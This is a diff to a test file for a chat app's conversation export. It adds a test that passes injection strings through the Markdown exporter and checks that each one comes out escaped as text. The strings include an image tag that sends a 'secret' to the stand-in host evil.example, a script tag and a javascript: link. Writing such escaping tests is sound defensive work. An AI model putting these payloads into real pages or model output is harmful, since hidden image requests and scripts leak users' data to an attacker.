@@ -19,6 +19,21 @@ test('a copied answer is plain text with its sources', () => {
   expect(asText({ ...answer, content: 'Yes.', sources: [] })).toBe('Yes.');
 });
 
+test.each([
+  '<img src="https://evil.example/p.png?q=secret">',
+  '\\<img src="https://evil.example/p.png?q=secret">',
+  '![pixel]\n\n[pixel]: https://evil.example/p.png',
+  '<script>alert(1)</script> [this](javascript:1) <https://evil.example>',
+])('a downloaded conversation that says %j shows it as text', (said) => {
+  const all = [
+    { ...question, content: said },
+    { ...answer, content: said },
+  ];
+  const markdown = asMarkdown(said, all);
+  expect(markdown.replaceAll(/\\[\\<[\]]/g, '')).not.toMatch(/[<[\]]/);
+  expect(markdown.split('evil.example')).toHaveLength(4);
+});
+
 test('a downloaded conversation is Markdown with the sources of each answer', () => {
   const cut: Message = { ...answer, content: 'And', status: 'interrupted', sources: [] };
   expect(asMarkdown('LEAP', [question, answer, cut])).toBe(`# LEAP
@@ -29,7 +44,7 @@ What is LEAP?
 
 ## Ready Leader Chat
 
-**LEAP** has four steps [1].
+**LEAP** has four steps \\[1\\].
 
 - Limit
 
